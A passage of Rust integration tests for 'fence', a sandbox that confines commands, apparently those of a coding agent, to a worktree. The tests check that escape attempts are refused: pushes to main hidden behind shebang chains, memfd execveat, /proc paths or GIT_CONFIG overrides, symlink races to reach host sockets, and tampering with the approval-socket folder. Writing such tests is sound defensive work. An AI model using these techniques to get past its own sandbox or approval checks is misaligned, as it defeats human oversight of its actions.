    std::fs::write(&marker, "host-only\n").unwrap();
    let written = Path::new("/tmp").join(format!("{unique}.txt"));
    let script = format!(
        "echo private > {0} && cat {0}; cat {1}; echo end",
        written.display(),
        marker.display()
    );
    let run_script = |extra: &[&str], script: &str| {
        let mut args: Vec<&OsStr> = extra.iter().map(OsStr::new).collect();
        args.extend(["--", "/bin/sh", "-c", script].map(OsStr::new));
        w.fence(&args)
            .current_dir(&wt)
            .env("HOME", &home)
            .output()
            .unwrap()
    };
    let run = |extra: &[&str]| run_script(extra, &script);
    let out = run(&[]);
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(text.ends_with("end\n"), "{text} {err}");
    assert!(!written.exists(), "the write reached the host's /tmp");
    // A file the sandbox made in /dev/shm (the session's own with a mount namespace, the
    // host's without one, writable either way) is removed with rm: the exec check takes
    // the folder as the sandbox's own, not as outside the worktree.
    let shm = run_script(
        &["--approver", "deny"],
        "f=$(mktemp /dev/shm/fence-it-XXXXXX) && rm -f \"$f\" && test ! -e \"$f\" && echo removed",
    );
    assert_eq!(stdout(&shm), "removed\n", "{}", stderr(&shm));
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        assert!(
            err.contains("fence: blocked write outside the worktree") && text.contains("host-only"),
            "{text} {err}"
        );
    } else {
        assert!(text.starts_with("private\n"), "{text} {err}");
        assert!(
            !text.contains("host-only"),
            "the host's /tmp is seen: {text}"
        );
        // And so is one in the private /tmp: `rm` of it is no delete outside the worktree.
        let removed = run_script(
            &["--approver", "deny"],
            &format!(
                "echo private > {0} && rm -f {0} && test ! -e {0} && echo removed",
                written.display()
            ),
        );
        assert_eq!(stdout(&removed), "removed\n", "{}", stderr(&removed));
        let kept = run(&["--host-tmp"]);
        let (text, err) = (stdout(&kept), stderr(&kept));
        assert!(!written.exists(), "the write reached the host's /tmp");
        assert!(
            text.contains("host-only") && err.contains("fence: blocked write outside the worktree"),
            "--host-tmp: {text} {err}"
        );
    }
    let _ = std::fs::remove_file(&marker);
}

fn session_tmpdir_is_writable_and_removed(w: &World) {
    w.write(
        "s.sh",
        "echo $TMPDIR > tmpdir-name\necho data > $TMPDIR/f && cat $TMPDIR/f\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_eq!(stdout(&out), "data\n");
    let name = std::fs::read_to_string(w.worktree.join("tmpdir-name")).unwrap();
    assert!(
        !Path::new(name.trim()).exists(),
        "session TMPDIR left behind"
    );
}

fn unix_socket_outside_is_unreachable(w: &World) {
    let path = w.outside.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    w.own(&path);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let out = w.python(&format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({p:?})\n    s.send(b'hello')\nexcept OSError as e:\n    print('refused', e.errno)\n",
        p = path.display().to_string()
    ));
    assert!(
        listener.accept().is_err(),
        "the outside listener accepted a connection"
    );
    assert!(
        stderr(&out).contains("rule fence.unix-outside"),
        "{}",
        stderr(&out)
    );
}

/// A host program's socket in a folder the sandbox may write (`--allow-write`, and the
/// host's `/dev/shm` without a mount namespace) is still a host program's: an X server's
/// under `--allow-write /tmp` would take keystrokes for the user's desktop. Only a socket
/// the sandbox bound there itself is reachable.
fn a_host_socket_in_a_writable_folder_is_unreachable(w: &World) {
    let shared = w.outside.join("shared");
    std::fs::create_dir(&shared).unwrap();
    w.own(&shared);
    let path = shared.join("host.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    w.own(&path);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let shm = Path::new("/dev/shm").join(format!(
        "fence-it-host-{}.sock",
        w.outside.file_name().unwrap().to_string_lossy()
    ));
    let _ = std::fs::remove_file(&shm);
    let shm_listener = std::os::unix::net::UnixListener::bind(&shm).unwrap();
    std::fs::set_permissions(&shm, std::fs::Permissions::from_mode(0o777)).unwrap();
    shm_listener.set_nonblocking(true).unwrap();
    w.write(
        "probe.py",
        &format!(
            r#"import socket, os
for p in [{p:?}, {shm:?}]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(p)
        s.send(b'hello')
        print('reached', p)
    except OSError as e:
        print('refused', e.errno)
own = os.path.join({d:?}, 'own.sock')
srv = socket.socket(socket.AF_UNIX)
srv.bind(own)
srv.listen(1)
c = socket.socket(socket.AF_UNIX)
c.connect(own)
c.send(b'ping')
conn, _ = srv.accept()
print('own', conn.recv(4).decode())
"#,
            p = path.display().to_string(),
            shm = shm.display().to_string(),
            d = shared.display().to_string(),
        ),
    );
    let args: Vec<&OsStr> = vec![
        OsStr::new("--allow-write"),
        shared.as_os_str(),
        OsStr::new("--"),
        OsStr::new(PYTHON),
        OsStr::new("probe.py"),
    ];
    let out = w.fence(&args).output().unwrap();
    let _ = std::fs::remove_file(&shm);
    let report = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        listener.accept().is_err(),
        "the host's socket in an --allow-write folder was reached: {report}"
    );
    assert!(
        shm_listener.accept().is_err(),
        "the host's socket in /dev/shm was reached: {report}"
    );
    assert!(stdout(&out).contains("own ping"), "{report}");
    assert!(report.contains("rule fence.unix-host"), "{report}");
}

/// A host program's socket in the worktree (an ssh-agent's or a tmux server's, or any
/// other when the worktree is a shared folder under `--force-worktree`) is the host's: a
/// tmux server reached from the sandbox runs commands outside it. Only the sockets the
/// sandbox bound are reachable there; `--allow-unix` opens one on purpose.
fn a_host_socket_in_the_worktree_is_unreachable(w: &World) {
    let path = w.worktree.join("host.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    w.own(&path);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    listener.set_nonblocking(true).unwrap();
    w.write(
        "probe.py",
        "import os, socket, sys\n\
         tmp = os.environ['TMPDIR']\n\
         names = ['host.sock']\n\
         # another name of it in the session TMPDIR, by a hard link and by a move\n\
         for how, to in [(os.link, tmp + '/l.sock'), (os.rename, tmp + '/m.sock')]:\n\
         \x20   try:\n\
         \x20       how('host.sock' if how is os.link else 'host2.sock', to)\n\
         \x20       names.append(to)\n\
         \x20   except OSError as e:\n\
         \x20       print('no', how.__name__, e.errno)\n\
         for n in names:\n\
         \x20   s = socket.socket(socket.AF_UNIX)\n\
         \x20   try:\n\
         \x20       s.connect(n)\n\
         \x20       s.send(b'hello')\n\
         \x20       print('reached', n)\n\
         \x20   except OSError as e:\n\
         \x20       print('refused', n, e.errno)\n",
    );
    let moved = w.worktree.join("host2.sock");
    let listener2 = std::os::unix::net::UnixListener::bind(&moved).unwrap();
    w.own(&moved);
    std::fs::set_permissions(&moved, std::fs::Permissions::from_mode(0o777)).unwrap();
    listener2.set_nonblocking(true).unwrap();
    let out = w
        .fence(&["--".as_ref(), PYTHON.as_ref(), "probe.py".as_ref()])
        .output()
        .unwrap();
    let report = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        listener.accept().is_err(),
        "the host's socket in the worktree was reached: {report}"
    );
    assert!(
        listener2.accept().is_err(),
        "the host's socket moved into the TMPDIR was reached: {report}"
    );
    assert!(!stdout(&out).contains("reached"), "{report}");
    assert!(report.contains("rule fence.unix-host"), "{report}");
    assert!(report.contains("--allow-unix"), "{report}");
    // Opened on purpose, it is reached.
    let out = w
        .fence(&[
            "--allow-unix".as_ref(),
            path.as_os_str(),
            "--".as_ref(),
            PYTHON.as_ref(),
            "probe.py".as_ref(),
        ])
        .output()
        .unwrap();
    let report = format!("{}{}", stdout(&out), stderr(&out));
    assert!(listener.accept().is_ok(), "--allow-unix: {report}");
    let _ = std::fs::remove_file(&path);
}

/// Under `--allow-write` of the folder that holds the approval sockets' folder
/// (`--allow-write /tmp` for `/tmp/fence-$UID`), the sandbox may neither move that folder
/// nor make it nor plant anything in it: `fence approvals` and later sessions would meet
/// the sandbox's sockets there.
fn the_approval_sockets_folder_stays_fences_under_allow_write(w: &World) {
    let xdg = w.outside.join("xdg");
    std::fs::create_dir(&xdg).unwrap();
    w.own(&xdg);
    let sockets = xdg.join("fence");
    let script = format!(
        "mv {s} {x}/moved; mkdir {s}; touch {s}/planted; exit 0\n",
        s = sockets.display(),
        x = xdg.display()
    );
    w.write("s.sh", &script);
    let run = || {
        let args: Vec<&OsStr> = vec![
            OsStr::new("--allow-write"),
            w.outside.as_os_str(),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            OsStr::new("s.sh"),
        ];
        w.fence(&args)
            .env("XDG_RUNTIME_DIR", &xdg)
            .output()
            .unwrap()
    };
    // Missing at start: the sandbox cannot make it.
    let out = run();
    assert!(
        !sockets.exists(),
        "the sandbox made {}: {}",
        sockets.display(),
        stderr(&out)
    );
    // There at start: it stays, unmoved and empty.
    std::fs::create_dir(&sockets).unwrap();
    std::fs::set_permissions(&sockets, std::fs::Permissions::from_mode(0o700)).unwrap();
    w.own(&sockets);
    let out = run();
    let err = stderr(&out);
    assert!(sockets.is_dir(), "{err}");
    assert!(!xdg.join("moved").exists(), "the folder was moved: {err}");
    assert!(!sockets.join("planted").exists(), "{err}");
}

fn unix_socket_inside_the_worktree_works(w: &World) {
    let out = w.python(
        "import socket, os\nsrv = socket.socket(socket.AF_UNIX)\nsrv.bind('s.sock')\nsrv.listen(1)\nc = socket.socket(socket.AF_UNIX)\nc.connect('s.sock')\nc.send(b'ping')\nconn, _ = srv.accept()\nprint(conn.recv(4).decode())\n",
    );
    assert_eq!(stdout(&out), "ping\n", "{}", stderr(&out));
    // One in the session TMPDIR, which with a mount view is a tmpfs only the sandbox sees
    // (the supervisor connects by the path as the sandbox sees it).
    let out = w.python(
        "import socket, os\np = os.environ['TMPDIR'] + '/t.sock'\nsrv = socket.socket(socket.AF_UNIX)\nsrv.bind(p)\nsrv.listen(1)\nc = socket.socket(socket.AF_UNIX)\nc.connect(p)\nc.send(b'pong')\nconn, _ = srv.accept()\nprint(conn.recv(4).decode())\n",
    );
    assert_eq!(stdout(&out), "pong\n", "{}", stderr(&out));
    // A bound socket keeps the address the process gave (the supervisor binds it).
    let out = w.python(
        "import socket, os\na = socket.socket(socket.AF_UNIX)\na.bind('rel.sock')\nb = socket.socket(socket.AF_UNIX)\np = os.path.join(os.getcwd(), 'abs.sock')\nb.bind(p)\nprint(a.getsockname(), b.getsockname() == p)\n",
    );
    assert_eq!(stdout(&out), "rel.sock True\n", "{}", stderr(&out));
    // One in the session TMPDIR keeps its absolute address too, which other processes
    // connect to from any folder (Python's multiprocessing `Listener` hands it to its
    // clients, Go unlinks it on `Close`), also for a fence that cannot enter the sandbox's
    // view by `chroot`: a worktree file of the same name is untouched.
    w.write("t.sock", "precious");
    let out = w.python(
        "import socket, os\np = os.environ['TMPDIR'] + '/t.sock'\nfor _ in range(2):\n    s = socket.socket(socket.AF_UNIX)\n    s.bind(p)\n    a = s.getsockname()\n    print(a == p)\n    s.close()\n    os.unlink(a)\n\
         from multiprocessing.connection import Listener, Client\nl = Listener(family='AF_UNIX')\nos.chdir('/')\nc = Client(l.address)\nprint(l.address.startswith(os.environ['TMPDIR']))\n",
    );
    assert_eq!(stdout(&out), "True\nTrue\nTrue\n", "{}", stderr(&out));
    assert_unchanged(&w.worktree.join("t.sock"), "precious");
}

/// A worktree the host moves away during the session, with another folder made at its
/// path, stays the sandbox's: Landlock's rules hold the folder itself, and the writes the
/// supervisor carries out (a new name at the root, a file there rewritten, its metadata)
/// start from the folder as it was at the start, so the new folder at the old path — not
/// the session's — is written by none of them, with or without namespaces.
fn a_worktree_moved_away_by_the_host_leaves_the_folder_at_its_path_unwritten(w: &World) {
    let wt = w.worktree.clone();
    let moved = wt.with_extension("moved");
    let go = w.outside.join("go");
    w.write(
        "s.sh",
        &format!(
            "echo > ready\nwhile [ ! -e {go} ]; do sleep 0.05; done\n\
             echo sandbox > {w}/planted.txt; echo x > {w}/existing.txt; chmod 600 {w}/existing.txt\n\
             touch -d 2000-01-01 {w}/existing.txt; truncate -s 3 {w}/existing.txt; mkdir {w}/newdir\n\
             ln -s /etc {w}/l; echo script-done\n",
            go = go.display(),
            w = wt.display()
        ),
    );
    let child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while !wt.join("ready").exists() && start.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::rename(&wt, &moved).unwrap();
    std::fs::create_dir(&wt).unwrap();
    std::fs::write(wt.join("existing.txt"), "original").unwrap();
    std::fs::set_permissions(
        wt.join("existing.txt"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    w.own(&wt);
    w.own(&wt.join("existing.txt"));
    let before = std::fs::metadata(wt.join("existing.txt")).unwrap();
    std::fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    let err = stderr(&out);
    let ran = stdout(&out).contains("script-done");
    let after = std::fs::metadata(wt.join("existing.txt")).unwrap();
    let made: Vec<_> = ["planted.txt", "newdir", "l"]
        .into_iter()
        .filter(|m| std::fs::symlink_metadata(wt.join(m)).is_ok())
        .collect();
    let text = std::fs::read_to_string(wt.join("existing.txt")).unwrap();
    // Put the worktree back where its TempDir removes it.
    std::fs::remove_dir_all(&wt).unwrap();
    std::fs::rename(&moved, &wt).unwrap();
    assert!(ran, "the script did not run to its end: {err}");
    assert!(made.is_empty(), "{made:?} made in the new folder: {err}");
    assert_eq!(text, "original", "{err}");
    assert_eq!(after.permissions().mode() & 0o777, 0o644, "{err}");
    assert_eq!(
        after.modified().unwrap(),
        before.modified().unwrap(),
        "{err}"
    );
}

/// `chmod -R a+rX .` over a repository calls chmod on every file with the mode it has
/// already, protected ones included: it runs as bare, with no question and no line, while
/// a chmod that changes a protected file's mode is still refused.
fn a_chmod_that_changes_nothing_runs_over_protected_files(w: &World) {
    git_init(w);
    w.write(".envrc", "export A=1\n");
    std::fs::set_permissions(
        w.worktree.join(".envrc"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    chown_tree(w, &w.worktree);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        "chmod -R a+rX . && chmod -R u+w . && echo unchanged-ok; chmod 0666 .envrc || echo refused",
    ]);
    assert_eq!(stdout(&out), "unchanged-ok\nrefused\n", "{}", stderr(&out));
    let err = stderr(&out);
    assert_eq!(
        err.matches("fence: blocked").count(),
        1,
        "only the real change is refused: {err}"
    );
    let mode = std::fs::metadata(w.worktree.join(".envrc"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o644, "{err}");
}

/// A process that makes itself undumpable (`prctl(PR_SET_DUMPABLE, 0)`, as ssh-agent and
/// gpg-agent do) keeps working: its writes in the worktree are made and its exec runs. An
/// ordinary user's supervisor without a user namespace could no longer read its memory,
/// and every notified call it made failed.
fn an_undumpable_process_keeps_working(w: &World) {
    let out = w.python(
        "import ctypes, os, subprocess\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.prctl(4, 0, 0, 0, 0))\n\
         open('made-after.txt', 'w').write('x')\nos.mkdir('dir-after')\nprint(subprocess.run(['/bin/true']).returncode)\n",
    );
    assert_eq!(stdout(&out), "0\n0\n", "{}", stderr(&out));
    assert_unchanged(&w.worktree.join("made-after.txt"), "x");
    assert!(w.worktree.join("dir-after").is_dir(), "{}", stderr(&out));
}

/// A trailing slash makes the kernel follow a last symlink even where the call says not
/// to (`fchmodat2(…, "l/", AT_SYMLINK_NOFOLLOW)`, `lsetxattr("l/")`): the call is judged
/// on what `l` leads to, so a link to the worktree's root or to `.vscode` changes neither
/// (seen from outside).
fn a_trailing_slash_on_a_symlink_is_judged_as_followed(w: &World) {
    w.mkdir(".vscode");
    chown_tree(w, &w.worktree);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    let (root_before, vscode_before) = (mode(&w.worktree), mode(&w.worktree.join(".vscode")));
    let out = w.python(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         os.symlink('.', 'l')\nos.symlink('.vscode', 'v')\n\
         for p in (b'l/', b'v/'):\n    r = libc.syscall(452, -100, p, 0o777, 0x100)\n    print(r, ctypes.get_errno() if r else 0)\n\
         try:\n    os.utime('v/.', (1, 1), follow_symlinks=False)\nexcept OSError:\n    pass\n",
    );
    assert_eq!(mode(&w.worktree), root_before, "{}", stderr(&out));
    assert_eq!(
        mode(&w.worktree.join(".vscode")),
        vscode_before,
        "{}",
        stderr(&out)
    );
    assert!(!stdout(&out).contains("0 0"), "{}", stdout(&out));
    // `v/.` names what `v` leads to, not the link: neither got the times.
    let link = std::fs::symlink_metadata(w.worktree.join("v")).unwrap();
    assert_ne!(link.mtime(), 1, "{}", stderr(&out));
    let vscode = std::fs::metadata(w.worktree.join(".vscode")).unwrap();
    assert_ne!(vscode.mtime(), 1, "{}", stderr(&out));
}

/// A host program's unix socket in a folder the sandbox may write (`--allow-write`) stays
/// out of reach however the sandbox races its own bind: a thread re-points a symlink on
/// the bound path between the check and the kernel's bind, so the socket lands in a
/// subfolder while the name checked is the host's socket, which must not be taken for the
/// sandbox's own. The host's listener gets no connection (seen from outside).
fn a_racing_bind_never_makes_a_host_socket_reachable(w: &World) {
    let shared = w.outside.join("shared");
    std::fs::create_dir_all(shared.join("sub")).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    w.own(&shared.join("sub"));
    let host = std::os::unix::net::UnixListener::bind(shared.join("X0")).unwrap();
    host.set_nonblocking(true).unwrap();
    w.write(
        "race.py",
        &format!(
            r#"import os, socket, time
D = {d:?}
def reach():
    c = socket.socket(socket.AF_UNIX)
    try:
        c.connect(D + '/X0')
        return True
    except OSError:
        return False
print('before', reach())
pid = os.fork()
if pid == 0:
    while True:
        try:
            os.symlink('.', D + '/La'); os.rename(D + '/La', D + '/L')
            os.symlink('sub', D + '/Lb'); os.rename(D + '/Lb', D + '/L')
        except OSError:
            pass
reached = False
for _ in range(400):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(D + '/L/X0')
    except OSError:
        s.close()
        continue
    try:
        os.unlink(D + '/sub/X0')
    except OSError:
        pass
    s.close()
    if reach():
        reached = True
        break
os.kill(pid, 9)
print('after', reached)
"#,
            d = shared.display().to_string()
        ),
    );
    let out = w
        .fence(&[
            "--allow-write".as_ref(),
            shared.as_os_str(),
            "--".as_ref(),
            PYTHON.as_ref(),
            "race.py".as_ref(),
        ])
        .output()
        .unwrap();
    assert!(
        host.accept().is_err(),
        "the host's socket got a connection: {} {}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(
        stdout(&out),
        "before False\nafter False\n",
        "{}",
        stderr(&out)
    );
}

/// `~/.npmrc` is a secret (registry tokens), so npm in the sandbox runs without the
/// user's settings in it: the first npm run says so on fence's transcript, once.
fn a_hidden_npmrc_is_told_once_when_npm_runs(w: &World) {
    std::fs::write(
        w.home.join(".npmrc"),
        "registry=https://registry.example/\n",
    )
    .unwrap();
    w.own(&w.home.join(".npmrc"));
    w.mkdir("bin");
    w.write_executable("bin/npm", "#!/bin/sh\necho npm-ran\n");
    let out = w.run(&["/bin/sh", "-c", "bin/npm; bin/npm; cat ~/.npmrc"]);
    assert_eq!(stdout(&out), "npm-ran\nnpm-ran\n", "{}", stderr(&out));
    let err = stderr(&out);
    assert_eq!(
        err.matches("/.npmrc is hidden from the sandbox (it holds credentials): npm runs without its settings")
            .count(),
        1,
        "{err}"
    );
}

/// A debugger or tracer fails in the sandbox with EPERM from the static filter, which
/// gives no reason line: its first exec puts a note on fence's transcript saying why.
fn a_tracer_is_told_why_it_cannot_trace(w: &World) {
    w.mkdir("bin");
    w.write_executable("bin/strace", "#!/bin/sh\necho strace-ran\n");
    let out = w.run(&["/bin/sh", "-c", "bin/strace; bin/strace"]);
    assert_eq!(stdout(&out), "strace-ran\nstrace-ran\n", "{}", stderr(&out));
    assert_eq!(
        stderr(&out)
            .matches("note: strace needs ptrace, which the sandbox refuses")
            .count(),
        1,
        "{}",
        stderr(&out)
    );
}

fn host_loopback_listener_is_unreachable(w: &World) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    w.python(&format!(
        "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n    s.send(b'hello')\nexcept OSError as e:\n    print('refused', e)\n"
    ));
    assert!(
        listener.accept().is_err(),
        "the host's loopback listener got a connection"
    );
}

fn git_push_to_main_from_a_script_is_refused(w: &World) {
    push_from_a_script_is_refused(w, "git push origin main\n");
}

/// A bare `git push` is judged by the worktree's current branch (main here), which the
/// exec check reads from HEAD for git commands.
fn a_bare_git_push_on_main_from_a_script_is_refused(w: &World) {
    push_from_a_script_is_refused(w, "git push\n");
}

/// Settings exported earlier in a script (`GIT_CONFIG_*`), which the command line does
/// not show, send a feature branch's `git push origin` to main: the exec check reads them
/// from the exec's environment.
fn a_push_sent_to_main_by_exported_git_settings_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push \
         GIT_CONFIG_VALUE_0=refs/heads/feature:refs/heads/main\n\
         git push origin\n",
    );
}

/// A script whose `#!` line names git runs git with the script's path and its own
/// arguments: a file `origin` holding `#!/usr/bin/git push`, run by that name as `origin
/// HEAD:main`, is `git push origin HEAD:main`, and is refused as one.
fn a_push_to_main_through_a_scripts_interpreter_line_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         printf '#!/usr/bin/git push\\n' > origin\n\
         chmod +x origin\n\
         PATH=\":$PATH\" env origin HEAD:main\n",
    );
}

/// The kernel ends a `#!` line's interpreter and argument at a NUL: `#!/usr/bin/git
/// push<NUL>x` runs `git push`, and is judged so.
fn a_push_through_an_interpreter_line_holding_a_nul_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         printf '#!/usr/bin/git push\\000x\\n' > origin\n\
         chmod +x origin\n\
         PATH=\":$PATH\" env origin HEAD:main\n",
    );
}

/// Five scripts, each the interpreter of the one before (as many as the kernel follows),
/// the last `#!/usr/bin/git push`: `git push origin HEAD:y3 HEAD:y2 HEAD:y1 HEAD:main`.
fn a_push_through_a_chain_of_five_scripts_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         printf '#!HEAD:y1\\n' > HEAD:main\n\
         printf '#!HEAD:y2\\n' > HEAD:y1\n\
         printf '#!HEAD:y3\\n' > HEAD:y2\n\
         printf '#!origin\\n' > HEAD:y3\n\
         printf '#!/usr/bin/git push\\n' > origin\n\
         chmod +x HEAD:main HEAD:y1 HEAD:y2 HEAD:y3 origin\n\
         PATH=\":$PATH\" env HEAD:main\n",
    );
}

/// A script run from a descriptor (`execveat(fd, "", AT_EMPTY_PATH)` of a memfd, whose
/// path names nothing) is read through the descriptor: `#!/usr/bin/git --work-tree` run
/// as `x push origin HEAD:main` is `git --work-tree /dev/fd/N push origin HEAD:main`.
fn a_push_through_a_script_run_from_a_memfd_is_refused(w: &World) {
    if !cc_ready("a_push_through_a_script_run_from_a_memfd_is_refused") {
        return;
    }
    w.compile_c(
        "memexec",
        r##"#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
extern char **environ;
int main(void) {
    int fd = memfd_create("s", 0);
    const char *line = "#!/usr/bin/git --work-tree\n";
    if (fd < 0 || write(fd, line, strlen(line)) < 0) { perror("memfd"); return 1; }
    char *argv[] = {"x", "push", "origin", "HEAD:main", 0};
    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
    perror("execveat");
    return 1;
}
"##,
    );
    push_from_a_script_is_refused(w, "git checkout -q -b feature\n./memexec\n");
}

/// A script reached through the caller's own `/proc` entries by a roundabout path
/// (`/proc/self/../self/fd/N` of a memfd) is read from the caller's descriptor, not from
/// fence's: a memfd holding `#!origin --repo` whose `origin` is `#!/usr/bin/git push`.
fn a_push_through_a_roundabout_proc_path_to_a_script_is_refused(w: &World) {
    if !cc_ready("a_push_through_a_roundabout_proc_path_to_a_script_is_refused") {
        return;
    }
    w.compile_c(
        "procexec",
        r##"#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
    int fd = memfd_create("s", 0);
    const char *line = "#!origin --repo\n";
    if (fd < 0 || write(fd, line, strlen(line)) < 0) { perror("memfd"); return 1; }
    char path[64];
    snprintf(path, sizeof path, "/proc/self/../self/fd/%d", fd);
    char *argv[] = {"x", "HEAD:main", 0};
    execv(path, argv);
    perror("execv");
    return 1;
}
"##,
    );
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         printf '#!/usr/bin/git push\\n' > origin\n\
         chmod +x origin\n\
         ./procexec\n",
    );
}

/// An interpreter line that fills the kernel's 256 bytes with no newline, a blank in its
/// last byte: the kernel runs the interpreter with no argument, and fence reads it so.
fn a_push_through_a_full_interpreter_line_is_refused(w: &World) {
    let slashes = "/".repeat(242);
    push_from_a_script_is_refused(
        w,
        &format!(
            "git checkout -q -b feature\n\
             printf '#!{slashes}usr/bin/git %s' xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx > push\n\
             chmod +x push\n\
             PATH=\":$PATH\" env push origin HEAD:main\n"
        ),
    );
}

/// A script whose path is nearly as long as the kernel takes (4,090 bytes, run by a short
/// relative name from a deep folder) is read all the same: fence opens it beneath the
/// caller's root, not by a longer path of its own.
fn a_push_through_a_script_at_the_longest_path_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         python3 - <<'EOF'\n\
         import os\n\
         top = os.getcwd()\n\
         while len(os.getcwd()) + 200 + len('/push') < 4090:\n\
         \x20   os.mkdir('d' * 199)\n\
         \x20   os.chdir('d' * 199)\n\
         last = 'e' * (4090 - len(os.getcwd()) - 1 - len('/push'))\n\
         os.mkdir(last)\n\
         os.chdir(last)\n\
         assert len(os.getcwd() + '/push') == 4090\n\
         open('push', 'w').write('#!/usr/bin/git --git-dir=' + top + '/.git\\n')\n\
         os.chmod('push', 0o755)\n\
         os.execv('push', ['push', 'origin', 'HEAD:main'])\n\
         EOF\n",
    );
}

/// An interpreter fence may not read is refused at any level of a chain of scripts, and
/// through a descriptor of a file already removed.
fn an_unreadable_interpreter_anywhere_in_the_chain_is_refused(w: &World) {
    push_from_a_script_is_refused_by(
        w,
        "git checkout -q -b feature\n\
         printf '#!/usr/bin/git push\\n' > origin\n\
         chmod 111 origin\n\
         printf '#!origin\\n' > HEAD:main\n\
         chmod 755 HEAD:main\n\
         PATH=\":$PATH\" env HEAD:main\n",
        &["fence.exec-unreadable", "git.push-main"],
    );
}

/// A script fence may not read (mode 0111: the kernel reads it all the same) in a folder
/// the sandbox may write is refused: its `#!` line, which decides what runs, is unknown.
/// (Root reads it, and judges the push it holds.)
fn a_script_fence_cannot_read_is_refused(w: &World) {
    push_from_a_script_is_refused_by(
        w,
        "git checkout -q -b feature\n\
         printf '#!/usr/bin/git push\\n' > origin\n\
         chmod 111 origin\n\
         PATH=\":$PATH\" env origin HEAD:main\n",
        &["fence.exec-unreadable", "git.push-main"],
    );
}

/// A shell searching a `PATH` that names a folder the caller may not search (another
/// user's `~/.cargo/bin`, left in `PATH` by `sudo` or `runuser`) tries each candidate
/// there and gets the kernel's EACCES, then runs the program from the next folder: no
/// blocked line, as without fence. (A file the caller may run but fence may not read is
/// still refused: `a_script_fence_cannot_read_is_refused`.)
fn a_path_folder_the_caller_cannot_search_is_passed_over_quietly(w: &World) {
    use std::os::unix::fs::PermissionsExt;
    let locked = w.mkdir("locked");
    for name in ["ls", "true"] {
        std::fs::write(locked.join(name), "#!/bin/sh\necho wrong\n").unwrap();
        std::fs::set_permissions(locked.join(name), std::fs::Permissions::from_mode(0o755))
            .unwrap();
    }
    // Owned by nobody, mode 0700: neither the test user nor root without capabilities
    // may search it.
    std::os::unix::fs::chown(&locked, Some(65534), Some(65534)).unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o700)).unwrap();
    w.write(
        "search.sh",
        "PATH=\"$PWD/locked:/usr/bin:/bin\"\n\
         ls /dev/null && echo ran-ls\n\
         env true && echo ran-env\n\
         locked/true; echo \"direct $?\"\n",
    );
    let out = w.run(&["/bin/sh", "search.sh"]);
    let err = stderr(&out);
    let said = stdout(&out);
    assert!(
        said.contains("ran-ls") && said.contains("ran-env"),
        "{said}\n{err}"
    );
    assert!(!said.contains("wrong"), "{said}");
    // The kernel's own answer to the direct run: 126 from the shell, no fence line.
    assert!(said.contains("direct 126"), "{said}\n{err}");
    assert!(
        !err.contains("blocked") && !err.contains("Blocked") && !err.contains("exec-unreadable"),
        "{err}"
    );
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// git pushes a symbolic source ref to the ref it resolves to: with `refs/heads/feat` made
/// a symbolic ref to main, `git push origin feat` is refused at git's exec as a push to main.
fn a_push_of_a_symbolic_ref_to_main_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b work\n\
         git symbolic-ref refs/heads/feat refs/heads/main\n\
         git push origin feat\n",
    );
}

/// A bare `git push` pushes the end of HEAD's chain of symbolic refs: from HEAD → feat →
/// main it is refused as a push to main.
